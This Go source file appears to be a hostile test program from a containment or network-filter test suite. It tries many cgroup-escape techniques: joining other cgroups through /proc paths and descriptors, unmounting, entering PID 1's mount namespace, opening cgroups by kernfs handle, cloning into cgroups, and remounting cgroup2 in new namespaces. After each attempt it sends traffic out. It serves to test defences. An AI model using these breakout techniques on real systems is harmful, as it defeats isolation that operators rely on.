package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// role says, in the environment, which of the processes below this one is.
const role = "HOSTILE"

// leaving are the ways to another cgroup, from which to send.
func leaving() []attempt {
	var all []attempt
	for _, w := range []struct {
		by   string
		leap func(to netip.Addr) error
	}{
		{"the mount", func(netip.Addr) error { return join(mounts()) }},
		{"the first process", func(netip.Addr) error { return join(below("/proc/1/root")) }},
		{"the parents", func(netip.Addr) error { return join(parents()) }},
		{"a descriptor", func(netip.Addr) error { return join(descriptors()) }},
		{"uncovering", uncover},
		{"a handle", handle},
		{"clone into", cloneInto},
		{"mounting anew", func(to netip.Addr) error { return again(to, "mount", 0) }},
		{"mounting anew in namespaces", func(to netip.Addr) error {
			return again(to, "mount", unix.CLONE_NEWUSER|unix.CLONE_NEWNS|unix.CLONE_NEWCGROUP)
		}},
	} {
		all = append(all, attempt{"leave by " + w.by, func(to netip.Addr) error {
			return errors.Join(w.leap(to), stream(to, 7, nil))
		}})
	}
	return all
}

// mounts are where cgroups are mounted, and every directory above and below that
// is one too.
func mounts() []string {
	var all []string
	for line := range strings.Lines(file("/proc/self/mountinfo")) {
		before, after, ok := strings.Cut(line, " - ")
		if f := strings.Fields(before); ok && strings.HasPrefix(after, "cgroup2 ") {
			all = append(all, f[4], f[4]+"/..", filepath.Join(f[4], cgroup()), filepath.Dir(filepath.Join(f[4], cgroup())))
		}
	}
	return all
}

// cgroup is the one of version 2 that this process is in.
func cgroup() string {
	_, path, _ := strings.Cut("\n"+file("/proc/self/cgroup"), "\n0::")
	return strings.TrimSpace(path)
}

// below are mounts as a process sees them whose root directory is given.
func below(root string) []string {
	var all []string
	for _, m := range append(mounts(), "/sys/fs/cgroup", "/sys/fs/cgroup/unified") {
		all = append(all, root+m)
	}
	return all
}

// parents are below for each process above this one, and what they have open.
func parents() []string {
	var all []string
	for pid := os.Getppid(); pid > 1; {
		dir := "/proc/" + strconv.Itoa(pid)
		all = append(all, below(dir+"/root")...)
		all = append(all, dir+"/cwd")
		for _, what := range []string{"/fd/*", "/task/*/root/sys/fs/cgroup", "/task/*/root/sys/fs/cgroup/unified"} {
			found, _ := filepath.Glob(dir + what)
			all = append(all, found...)
		}
		_, stat, _ := strings.Cut(file(dir+"/stat"), ") ")
		fmt.Sscanf(stat+" x 0", "%s %d", new(string), &pid)
	}
	return all
}

// descriptors are the directories that this process found open.
func descriptors() []string {
	all, _ := filepath.Glob("/proc/self/fd/*")
	for _, fd := range all {
		all = append(all, fd+"/..", fd+"/../..")
	}
	return append(all, ".", "..", "../..")
}

// join moves this process to each of the cgroups dirs.
func join(dirs []string) error {
	moved := errors.New("no way")
	for _, dir := range dirs {
		for _, name := range []string{"cgroup.procs", "cgroup.threads"} {
			f, err := os.OpenFile(dir+"/"+name, os.O_WRONLY, 0)
			if err != nil {
				continue
			}
			if _, err := f.WriteString("0"); err == nil {
				moved = nil
			}
			f.Close()
		}
	}
	return moved
}

// uncover takes away what is mounted over cgroups, or enters the first
// process's mounts.
func uncover(netip.Addr) error {
	var err error
	for _, m := range mounts() {
		err = errors.Join(err, unix.Unmount(m, unix.MNT_DETACH))
	}
	if fd, e := unix.Open("/proc/1/ns/mnt", unix.O_RDONLY, 0); e == nil {
		err = errors.Join(err, unix.Unshare(unix.CLONE_FS), unix.Setns(fd, unix.CLONE_NEWNS))
	}
	return errors.Join(err, join(mounts()))
}

// handle opens cgroups by their numbers: open_by_handle_at(2). The root's is 1,
// FILEID_KERNFS 0xfe.
func handle(netip.Addr) error {
	var dirs []string
	for _, m := range mounts() {
		fd, err := unix.Open(m, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			continue
		}
		for n := range uint64(5000) {
			dir, err := unix.OpenByHandleAt(fd, unix.NewFileHandle(0xfe, binary.NativeEndian.AppendUint64(nil, n)), unix.O_RDONLY)
			if err == nil {
				dirs = append(dirs, fmt.Sprintf("/proc/self/fd/%d", dir))
			}
		}
	}
	return join(dirs)
}

// cloneInto has a child sent into each cgroup whose directory can be opened.
func cloneInto(to netip.Addr) error {
	err := errors.New("no way")
	for _, m := range append(mounts(), append(below("/proc/1/root"), parents()...)...) {
		dir, e := os.OpenFile(m, unix.O_DIRECTORY, 0)
		if e != nil {
			continue
		}
		if again(to, "send", 0, dir) == nil {
			err = nil
		}
		dir.Close()
	}
	return err
}

// again runs this program in a role, in new namespaces and in a cgroup if one is
// given.
func again(to netip.Addr, as string, flags uintptr, in ...*os.File) error {
	cmd := exec.Command(os.Args[0], to.String())
	cmd.Env = append(os.Environ(), role+"="+as)
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flags}
	if flags != 0 {
		cmd.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}}
		cmd.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}}
	}
	for _, dir := range in {
		cmd.SysProcAttr.UseCgroupFD, cmd.SysProcAttr.CgroupFD = true, int(dir.Fd())
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s: %w", strings.TrimSpace(string(out)), err)
	}
	return nil
}

// act is this program in a role, and returns its exit code.
func act(as string, to netip.Addr) int {
	if as == "mount" {
		dir, err := os.MkdirTemp("", "hostile-*")
		if err == nil {
			defer os.Remove(dir)
			err = unix.Mount("none", dir, "cgroup2", 0, "")
		}
		if err == nil {
			defer unix.Unmount(dir, unix.MNT_DETACH)
			err = join([]string{dir, dir + "/..", dir + cgroup()})
		}
		if err != nil {
			fmt.Println(err)
		}
	}
	if err := stream(to, 7, nil); err != nil {
		fmt.Println(err)
		return 1
	}
	return 0
}
